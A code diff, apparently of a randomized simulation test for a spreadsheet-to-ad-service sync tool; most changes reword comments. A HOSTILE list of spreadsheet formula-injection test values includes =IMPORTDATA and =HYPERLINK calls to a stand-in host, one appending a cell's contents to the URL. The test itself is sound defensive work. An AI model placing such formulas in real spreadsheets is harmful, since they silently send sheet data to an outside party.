@@ -1,4 +1,4 @@
-// test, sim: what happens in one step: a person at the grid or in the sidebar, somebody at the service, the clock.
+// test, sim: actions of one step: a person in the grid or the sidebar, changes at the service, the clock.
 
 import type { Targets } from '../../workbench/ad-service/state';
 import { fixesOf, jobOf, pullArgs, pushArgs, resolveArgs, revertArgs, undoArgs } from './calls';
@@ -20,7 +20,7 @@ import {
 import { type Cell, type Kind, type SimTab, TABS } from './tabs';
 import { ANNA, type Beside, BORIS, type Mishap } from './world';
 
-/** What a cell of the service may hold and a spreadsheet likes to change. */
+/** Values of the service that a spreadsheet tends to convert. */
 const HOSTILE = [
   '=HYPERLINK("https://x.invalid/","c")',
   '=IMPORTDATA("https://x.invalid/"&A1)',
@@ -42,7 +42,7 @@ const HOSTILE = [
 ];
 const COUNTRIES = ['US', 'DE', 'FR', 'MX', 'JP', 'BR'];
 
-/** Steps that a mode makes likelier; a mode is a story that people tell each other. */
+/** Steps that a mode makes more likely. */
 export type StepName = keyof typeof STEPS;
 export type Weights = Partial<Record<StepName, number>>;
 
@@ -222,7 +222,7 @@ export const MODES: Readonly<Record<string, Weights>> = {
   faults: { ...BASE, lostPush: 12, killedCall: 18, clock: 6, finishJob: 14 },
 };
 
-/** Beside the modes: somebody who means harm. */
+/** The mode with an attacker. */
 export const HOSTILE_MODE: Weights = {
   ...BASE,
   tamper: 24,
@@ -273,7 +273,7 @@ function editable(tab: SimTab, row: SeenRow): string[] {
       if (header === 'Remove' || header === 'Disabled') return false;
       if (tab.id === 'device-targeting' && kind === 'tick') return row.cells.Platform?.value === 'ios';
       if (tab.id === 'assets') return /^TXT_(TITLE|BUTTON|SUBTITLE)$/.test(String(row.cells.Type?.value));
-      // What stands in DEFAULT must not stand in a country as well, and an override has one of two values.
+      // A value in DEFAULT must not be in a country as well, and an override has one of two values.
       if (kind === 'amount' || kind === 'url' || kind === 'percent') return value !== null;
       return true;
     })
@@ -347,7 +347,7 @@ const editAgain: Step = async (sim, dice) => {
   return `edit again ${tab.id} row ${chosen.row.row} ${chosen.header} ${JSON.stringify(value)}`;
 };
 
-/** What a paste from elsewhere brings along: the cell's format is Automatic from then on. */
+/** A paste from elsewhere sets the cell's format to Automatic. */
 const automatic: Step = async (sim, dice) => {
   const sheet = pickTab(sim, dice, ['campaigns', 'creative-sets', 'ads', 'assets', 'targets']);
   const tab = sheet && tabOfSheet(sim, sheet);
@@ -372,7 +372,7 @@ const clear: Step = async (sim, dice) => {
   const tab = sheet && tabOfSheet(sim, sheet);
   const row = dice.pick((sheet?.rows ?? []).filter((one) => tab && known(tab, one)));
   if (!sheet || !tab || !row) return 'nothing to clear';
-  // An empty box says the same as an unticked one, so clearing one is no edit.
+  // An empty checkbox equals an unchecked one, so clearing it is not an edit.
   const header = dice.pick(Object.keys(tab.edits).filter((one) => tab.edits[one] !== 'tick'));
   if (!header) return 'nothing to clear';
   await type(sim, anyone(dice), sheet, row, header, null);
@@ -467,7 +467,7 @@ const disable: Step = async (sim, dice) => {
   return `disable ${row.cells['Campaign ID']?.value} ${row.cells.Country?.value}`;
 };
 
-/** A bid for a country that is switched off. */
+/** A bid for a disabled country. */
 const editDisabled: Step = async (sim, dice) => {
   const sheet = sim.oracle.sheetOf('targets');
   const row = dice.pick((sheet?.rows ?? []).filter((one) => one.cells.Disabled?.value === true));
@@ -683,7 +683,7 @@ const elsewhere: Step = async (sim, dice) =>
 const hostileElsewhere: Step = async (sim, dice) =>
   changeService(sim, () => changeSomething(sim, dice, true));
 
-/** Where somebody has an edit that is not pushed: the same field, or one beside it. */
+/** Changes at the service a row with an unpushed edit: the same field, or another one. */
 const elsewhereJust: Step = async (sim, dice) =>
   changeService(sim, () => {
     const rows = [...Object.values(sim.people)].flatMap(({ review }) => review?.rows ?? []);
@@ -717,7 +717,7 @@ const elsewhereJust: Step = async (sim, dice) =>
     return `near ${row.tab} ${row.key}`;
   });
 
-/** Somebody renames what was created last. */
+/** Renames the last created object at the service. */
 const renameCreated: Step = async (sim, dice) =>
   changeService(sim, () => {
     const { state } = sim.world.service;
@@ -815,7 +815,7 @@ const pushAll: Step = async (sim, dice) => {
   return `${user} reviews and pushes: ${began}`;
 };
 
-/** A push whose steps end early, so that people come in between. */
+/** A push whose steps end early, so that people can act in between. */
 const pushSlow: Step = async (sim, dice) => {
   const user = anyone(dice);
   await finish(sim, sim.jobOwner || user);
@@ -859,7 +859,7 @@ const lostPush: Step = async (sim, dice) => {
   }
   if (!(await startPush(sim, dice, user)) || !sim.job) return 'nothing to push';
   const trouble = dice.chance(0.25) ? { killAt: dice.whole(30, 400) } : requestTrouble(dice);
-  // A colleague answers to the trouble before anybody goes on.
+  // A colleague reacts to the error before the push is resumed.
   const stepped = await sim.ask<JobSeen>(user, 'jobStep', [sim.job], {
     ...trouble,
     meanwhile: dice.chance(0.3)
@@ -1253,7 +1253,7 @@ export const STEPS = {
 /** More than a job of this size needs, pauses included. */
 const MOST_STEPS = 60;
 
-/** Nothing goes wrong any more: jobs end, conflicts are decided, everything is pulled. Then cells and service must agree. */
+/** Without further faults, ends jobs, resolves conflicts and pulls everything. Then cells and service must agree. */
 export async function settle(sim: Sim): Promise<void> {
   for (const who of Object.values(sim.people)) Object.assign(who, { review: null, undo: null });
   sim.world.pass(7_300_000);
